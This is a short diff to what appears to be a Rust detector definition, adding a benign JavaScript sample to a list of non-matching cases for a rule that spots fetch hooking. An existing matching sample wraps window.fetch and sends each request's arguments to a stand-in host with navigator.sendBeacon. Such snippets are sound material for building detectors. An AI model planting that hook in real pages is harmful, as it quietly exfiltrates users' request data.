@@ -19,6 +19,7 @@ pub(super) const SIGNAL: Signal = Signal {
             "const f=window.fetch;window.fetch=function(...a){f('https://c.example/x');log(a);return f.apply(this,a)};function log(a){navigator.sendBeacon('https://c.example/l',JSON.stringify(a))}",
         ],
         without: &[
+            "var Q=function(){function e(){this.queue=[]}return e.prototype.send=function(t,n){return fetch('https://m.example/batch',{method:'POST',body:JSON.stringify(t)})},e}()",
             "var o=XMLHttpRequest.prototype.send;XMLHttpRequest.prototype.send=function(d){this.t=Date.now();return o.apply(this,arguments)};navigator.sendBeacon('https://m.example/t',timing)",
         ],
     },
